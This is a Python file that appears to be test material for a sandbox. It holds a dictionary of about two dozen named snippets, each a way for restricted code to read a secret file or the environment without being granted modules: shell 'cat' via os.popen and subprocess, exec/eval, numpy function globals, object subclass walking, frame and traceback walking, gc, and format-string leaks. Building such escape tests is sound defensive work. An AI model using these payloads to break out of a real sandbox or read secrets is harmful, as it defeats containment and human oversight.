"""Ways to modules that a program was not given."""

TEXTS = {
    "import os": """
import os
stolen = os.popen("cat " + SECRET).read()
""",
    "from subprocess import": """
from subprocess import check_output
stolen = check_output(["cat", SECRET])
""",
    "dunder import": """
stolen = __import__("pathlib").Path(SECRET).read_text()
""",
    "importlib": """
import importlib
stolen = importlib.import_module("io").open(SECRET).read()
""",
    "open": """
stolen = open(SECRET).read()
""",
    "globals to builtins": """
builtins = globals()["__builtins__"]
builtins = builtins if isinstance(builtins, dict) else vars(builtins)
stolen = builtins["op" + "en"](SECRET).read()
""",
    "exec of text": """
scope = {}
exec("import os; got = open(" + repr(SECRET) + ").read()", scope)
stolen = scope["got"]
""",
    "eval of code": """
stolen = eval(compile("open(" + repr(SECRET) + ").read()", "x", "eval"))
""",
    "numpy's loader": """
stolen = np.__loader__.get_data(SECRET)
""",
    "numpy's own os": """
stolen = np.f2py.os.popen("cat " + SECRET).read()
""",
    "globals of a numpy function": """
os = np.loadtxt.__globals__["os"]
descriptor = os.open(SECRET, os.O_RDONLY)
stolen = os.read(descriptor, 100)
""",
    "the class of everything": """
wrap = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]
stolen = wrap.__init__.__globals__["popen"]("cat " + SECRET).read()
""",
    "a loader among the subclasses": """
for c in object.__subclasses__():
    if c.__name__ == "FileLoader":
        stolen = c("x", SECRET).get_data(SECRET)
for c in ().__class__.__mro__[1].__subclasses__():
    for d in type.__subclasses__(c):
        if d.__name__ == "FileIO":
            stolen = d(SECRET).read()
""",
    "a format string": """
stolen = "{0.__globals__[os].environ}".format(np.loadtxt)
""",
    "format_map": """
stolen = "{f.__globals__[os].environ[HOME]}".format_map({"f": np.loadtxt})
""",
    "a generator's frame": """
def walk():
    yield generator.gi_frame.f_back.f_back
generator = walk()
for frame in generator:
    pass
while frame and "os" not in frame.f_globals:
    frame = frame.f_back
stolen = frame.f_globals["os"].popen("cat " + SECRET).read()
""",
    "a traceback's frame": """
try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame.f_back
while "os" not in frame.f_globals:
    frame = frame.f_back
os = frame.f_globals["os"]
stolen = os.read(os.open(SECRET, os.O_RDONLY), 100)
""",
    "a coroutine's frame": """
async def run():
    pass
coroutine = run()
stolen = coroutine.cr_frame.f_builtins["open"](SECRET).read()
""",
    "the object of an attribute error": """
try:
    "{0.__init__.__globals__.missing}".format(np.errstate)
except AttributeError as error:
    stolen = error.obj
stolen = stolen.get("__builtins__", __builtins__)
stolen = (stolen if isinstance(stolen, dict) else vars(stolen))["open"](SECRET).read()
""",
    "except star": """
try:
    raise ExceptionGroup("g", [ValueError()])
except* ValueError as group:
    found = group.__traceback__.tb_frame.f_builtins
stolen = found["open"](SECRET).read()
""",
    "the frame of sys": """
import sys
stolen = sys._getframe().f_builtins["open"](SECRET).read()
""",
    "what the collector knows": """
import gc
stolen = [m for m in gc.get_objects() if getattr(m, "__name__", "") == "posix"][0]
stolen = stolen.read(stolen.open(SECRET, 0), 100)
""",
    "the environment": """
import os
stolen = dict(os.environ)
stolen = stolen.get(KEY, stolen)
""",
    "linecache": """
import linecache
stolen = linecache.getlines(SECRET)
""",
    "a codec": """
import codecs
stolen = codecs.open(SECRET).read()
""",
    "a module put together": """
import importlib.util
spec = importlib.util.spec_from_file_location("stolen", SECRET)
loader = importlib.machinery.SourceFileLoader("stolen", SECRET)
stolen = loader.get_data(SECRET)
""",
}
